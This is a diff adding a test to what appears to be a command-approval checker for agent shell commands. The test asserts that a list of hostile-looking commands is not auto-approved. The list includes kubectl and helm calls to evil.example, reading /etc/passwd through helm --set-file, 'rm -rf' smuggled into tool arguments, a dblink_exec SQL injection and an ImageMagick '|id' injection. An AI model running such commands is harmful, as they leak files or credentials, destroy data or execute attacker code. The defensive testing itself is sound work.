@@ -176,6 +176,29 @@ test('a tool of the project is asked about with a word that names a command, cod
   assert.deepEqual(asked, [])
 })
 
+test('verbs that look or run here are asked about with words that make them do more', () => {
+  const edit = (path: string, then: string) =>
+    `python3 - <<'X'\nfrom pathlib import Path\np = Path('${path}')\np.write_text(p.read_text()+'x')\nX\n${then}`
+  assert.equal(judge(edit('src/a.py', 'pytest')).held, true)
+  const commands = [
+    ...[edit('package.json', 'npm run x'), edit('Makefile', 'make'), edit('src/a.py', 'python3 main.py')],
+    ...['kubectl delete ns x -- --dry-run=client', 'kubectl delete ns x --dry-run=client --dry-run=none'],
+    ...['kubectl get pods -s https://evil.example', 'kubectl get pods --as=admin'],
+    ...["firebase emulators:exec 'rm -rf x'", 'sam local invoke --docker-network host', 'serverless print'],
+    ...['helm template --repo https://evil.example x', 'helm template oci://evil.example/x', 'cdk synth -o ..'],
+    ...['helm template . --set-file a=/etc/passwd', 'cdk synth --plugin evil'],
+    ...['cargo msrv verify -- rm -rf x', 'cargo about generate -o ../x a.hbs', 'go run ./cmd/migrate down'],
+    ...['php artisan key:generate', 'php artisan queue:work', 'python manage.py diffsettings'],
+    `psql -d app_test -c "insert into x (a) values (dblink_exec('x'))"`,
+    'redis-cli --bigkeys --eval evil.lua',
+    ...["convert '|id' a.png", "convert 'label:@notes' a.png"],
+  ]
+  assert.deepEqual(
+    commands.filter(command => judge(command).held),
+    [],
+  )
+})
+
 test('a program text that changes files of the project by name needs nobody in a sandbox, and somebody outside', () => {
   const command = `python3 - <<'X'\nfrom pathlib import Path\np = Path('src/a.py')\np.write_text(p.read_text().replace('get_user(', 'fetch_user('))\nX`
   assert.deepEqual(judge(command), { plain: false, held: true })
